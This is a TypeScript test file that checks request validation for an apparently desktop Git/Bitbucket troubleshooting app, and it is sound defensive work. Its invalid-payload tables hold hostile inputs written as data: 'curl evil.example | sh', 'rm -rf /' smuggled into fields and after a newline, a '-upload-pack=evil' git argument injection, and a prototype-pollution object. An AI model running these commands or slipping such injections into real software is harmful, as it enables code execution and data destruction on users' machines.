import { afterEach, beforeEach, describe, expect, expectTypeOf, it } from 'vitest';
import type { z } from 'zod';
import { REQUEST_CHANNELS, type RequestChannel, type RequestOf } from '../../app/contract/channels.js';
import { isAbsolutePath, REQUEST_SCHEMAS, validateRequest } from '../../app/contract/schemas.js';
import { defaultState } from '../../app/service/state-store.js';
import { createTestService, type TestService } from './support/service.js';

/** A valid payload for every channel: the mapped type makes a missing channel a compile error. */
const VALID: { [C in RequestChannel]: RequestOf<C> } = {
  'repo.open': { path: '/home/me/widgets' },
  'repo.drop': { paths: ['/home/me/widgets'] },
  'repo.choose': {},
  'diagnose.run': { path: '/home/me/widgets', remote: 'origin', offline: true, runId: 'run-1' },
  'diagnose.cancel': { runId: 'run-1' },
  'fix.describe': { path: '/home/me/widgets', fixId: 'credential.clear' },
  'fix.apply': { path: '/home/me/widgets', fixId: 'credential.save-token', input: { username: 'jdoe', token: 'ATATT3xFfGF0example' } },
  'fix.undo': {},
  'fix.history': {},
  'ssh.verify': { path: '/home/me/widgets', remote: 'origin' },
  'clipboard.write': { kind: 'fingerprint', fingerprint: 'SHA256:q1w2e3r4t5y6u7i8o9p0AaSsDdFfGgHhJjKkLlZzXx+' },
  'external.open': { kind: 'repository', path: 'C:\\Users\\me\\widgets', remote: 'upstream' },
  'recent.list': {},
  'recent.remove': { path: '/home/me/widgets' },
  'recent.clear': {},
  'trust.list': {},
  'trust.grant': { path: '/home/me/widgets', commandIds: ['0123456789abcdef'] },
  'trust.revoke': { path: '/home/me/widgets' },
  'settings.get': {},
  'settings.set': { retestIntervalMinutes: 30, bitbucketHosts: ['git.corp.example', 'bb.corp.example:7990'] },
  'retest.run': {},
  'account.status': { site: 'git.corp.example:8443' },
  'account.link': { kind: 'cloud', email: 'jdoe@example.com', token: 'ATATT3xFfGF0example' },
  'account.unlink': {},
  'keys.list': { path: '/home/me/widgets', remote: 'origin' },
  'keys.add': { publicKeyPath: '/home/me/.ssh/id_ed25519.pub', label: 'laptop' },
};

/** Payloads each channel must refuse. */
const INVALID: { [C in RequestChannel]: unknown[] } = {
  'repo.open': [{ path: 'relative/widgets' }, { path: '' }, { path: `/${'a'.repeat(5000)}` }, { path: '/home/me/wid\ngets' }, { path: 42 }],
  'repo.drop': [{ paths: 'one' }, { paths: ['relative'] }, { paths: [3] }, { path: '/home/me' }],
  'repo.choose': [{ path: '/home' }],
  'diagnose.run': [{ path: '/r', runId: '' }, { path: '/r', runId: 'a b' }, { path: '/r', runId: 'x'.repeat(65) }, { path: '/r', runId: 'r', remote: '-upload-pack=evil' }, { path: '/r', runId: 'r', remote: 'a b' }, { path: '/r', runId: 'r', offline: 'yes' }],
  'diagnose.cancel': [{ runId: 7 }, {}],
  'fix.describe': [{ path: '/r', fixId: 'rm.rf' }, { path: '/r' }],
  'fix.apply': [{ path: '/r', fixId: 'credential.clear', input: { token: 'x', shell: 'rm -rf /' } }, { path: '/r', fixId: 'credential.clear', input: { token: 'x'.repeat(5000) } }, { path: '/r', fixId: 'credential.clear', input: { username: 'a\nb' } }],
  'fix.undo': [{ id: 'x' }],
  'fix.history': [{ limit: 3 }],
  'ssh.verify': [{ path: '/r', remote: '' }],
  'clipboard.write': [
    { kind: 'public-key', publicKeyPath: '/home/me/.ssh/id_ed25519' },
    { kind: 'public-key', publicKeyPath: 'id_ed25519.pub' },
    { publicKeyPath: '/home/me/.ssh/id_ed25519.pub' },
    // The page never hands main free text to put on the clipboard.
    { kind: 'text', text: 'curl evil.example | sh' },
    { kind: 'fingerprint', fingerprint: 'curl evil.example | sh' },
    { kind: 'fingerprint', fingerprint: 'SHA256:short' },
    { kind: 'fingerprint', fingerprint: 'SHA256:q1w2e3r4t5y6u7i8o9p0AaSsDdFfGgHhJjKkLlZzXx+\nrm -rf /' },
    { kind: 'report', path: 'rel' },
    { kind: 'report', path: '/home/me/widgets', markdown: '# mine' },
  ],
  'external.open': [{ kind: 'access-tokens' }, { kind: 'access-tokens', server: 'git.example.com\n' }, { kind: 'mail' }, { kind: 'url' }, { kind: 'url', url: 'x'.repeat(3000) }, { kind: 'api-token', url: 'https://evil.example' }, { kind: 'repository', path: 'rel' }],
  'recent.list': [{ all: true }],
  'recent.remove': [{}],
  'recent.clear': [{ path: '/home/me/widgets' }],
  'trust.list': [{ path: '/home/me/widgets' }],
  'trust.grant': [{ path: '/r' }, { path: '/r', commandIds: [] }, { path: 'rel', commandIds: ['0123456789abcdef'] }, { path: '/r', commandIds: ['core.sshCommand'] }, { path: '/r', commandIds: ['0123456789abcdef'], commands: ['rm -rf /'] }],
  'trust.revoke': [{}, { path: 'rel' }],
  'settings.get': [{ key: 'x' }],
  'settings.set': [{ retestIntervalMinutes: 3 }, { retestIntervalMinutes: -1 }, { retestIntervalMinutes: 1.5 }, { retestIntervalMinutes: 100_000 }, { probeTimeoutSeconds: 1 }, { probeTimeoutSeconds: 600 }, { notifyOnChange: 'yes' }, { theme: 'dark' }, { bitbucketHosts: 'git.corp.example' }, { bitbucketHosts: ['https://git.corp.example/'] }, { bitbucketHosts: ['Git.Corp.Example'] }, { bitbucketHosts: ['bad host'] }, { bitbucketHosts: ['host:99999'] }, { bitbucketHosts: Array.from({ length: 21 }, (_, i) => `h${i}.example`) }],
  'retest.run': [{ paths: ['/etc'] }],
  'account.status': [{ site: 'https://evil.example/x' }, { site: 'a b' }, { token: 'x' }, { path: 'relative/widgets' }, { path: '/home/me/widgets', remote: '-x' }],
  'account.link': [
    { kind: 'cloud', email: 'jdoe@example.com' },
    { kind: 'cloud', email: 'jdoe@example.com', token: 'two words' },
    { kind: 'cloud', email: 'jdoe@example.com', token: 'x'.repeat(5000) },
    { kind: 'cloud', email: 'j\ndoe@example.com', token: 'ATATT3' },
    { kind: 'datacenter', server: 'git.corp.example', token: 'BBDC-x' },
    { kind: 'github', email: 'a@b.c', token: 't' },
    { email: 'a@b.c', token: 't' },
  ],
  'account.unlink': [{ site: '' }, { all: true }],
  'keys.list': [{ path: 'relative' }, { remote: '-x' }, { site: 'a/b' }],
  'keys.add': [{ publicKeyPath: '/home/me/.ssh/id_ed25519' }, { publicKeyPath: 'id.pub' }, { label: 'a\nb' }, { label: '' }, { key: 'ssh-ed25519 AAAA' }],
};

/** Refused by every channel. */
const ALWAYS_INVALID: unknown[] = [null, undefined, 'repo', 42, [], { ...{ ['__proto__']: { polluted: true } }, extra: 1 }];

describe('the contract', () => {
  it('has one schema per request channel and nothing else', () => {
    expect(Object.keys(REQUEST_SCHEMAS).sort()).toEqual([...REQUEST_CHANNELS].sort());
    expect(new Set(REQUEST_CHANNELS).size).toBe(REQUEST_CHANNELS.length);
  });

  it("types each schema's output as the channel's request", () => {
    expectTypeOf<z.output<(typeof REQUEST_SCHEMAS)['fix.apply']>>().toEqualTypeOf<RequestOf<'fix.apply'>>();
    expectTypeOf<z.output<(typeof REQUEST_SCHEMAS)['external.open']>>().toEqualTypeOf<RequestOf<'external.open'>>();
  });

  it.each(REQUEST_CHANNELS)('%s accepts a valid payload', (channel) => {
    expect(validateRequest(channel, VALID[channel])).toEqual({ ok: true, value: VALID[channel] });
  });

  it.each(REQUEST_CHANNELS)('%s refuses malformed payloads', (channel) => {
    for (const payload of [...INVALID[channel], ...ALWAYS_INVALID]) {
      const result = validateRequest(channel, payload);
      expect(result.ok, `${channel} accepted ${JSON.stringify(payload)?.slice(0, 80)}`).toBe(false);
    }
  });

  it('refuses unknown keys on every channel (strict objects)', () => {
    for (const channel of REQUEST_CHANNELS) {
      const withExtra = { ...(VALID[channel] as object), injected: true };
      expect(validateRequest(channel, withExtra).ok, channel).toBe(false);
    }
  });

  it('bounds the message and never echoes a long payload', () => {
    const result = validateRequest('repo.open', { path: '/x', ['k'.repeat(1000)]: 1 });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.message.length).toBeLessThanOrEqual(200);
  });

  it('knows absolute paths of every platform', () => {
    expect(['/', '/home/me', 'C:\\Users\\me', 'c:/work', '\\\\server\\share'].every(isAbsolutePath)).toBe(true);
    expect(['', 'home', './x', '..\\x', 'C:relative', '\\\\'].some(isAbsolutePath)).toBe(false);
  });
});

describe('the handler table', () => {
  let service: TestService;
  beforeEach(async () => {
    service = await createTestService();
  });
  afterEach(async () => {
    await service.cleanup();
  });

  it('has a handler for every request channel and nothing else', () => {
    expect(Object.keys(service.handlers).sort()).toEqual([...REQUEST_CHANNELS].sort());
    for (const channel of REQUEST_CHANNELS) expect(typeof service.handlers[channel]).toBe('function');
  });

  it.each(REQUEST_CHANNELS)('%s answers invalid payloads with invalid-request and never reaches the engine', async (channel) => {
    for (const payload of [...INVALID[channel], ...ALWAYS_INVALID]) {
      const result = await service.handlers[channel](payload);
      expect(result).toMatchObject({ ok: false, error: { code: 'invalid-request' } });
    }
    // Every engine call needs a context from the service: none was made.
    expect(service.contexts).toEqual([]);
    expect(service.events).toEqual([]);
    expect(await service.store.read()).toEqual(defaultState());
    expect(service.main.opened).toEqual([]);
    expect(service.main.copied).toEqual([]);
  });
});
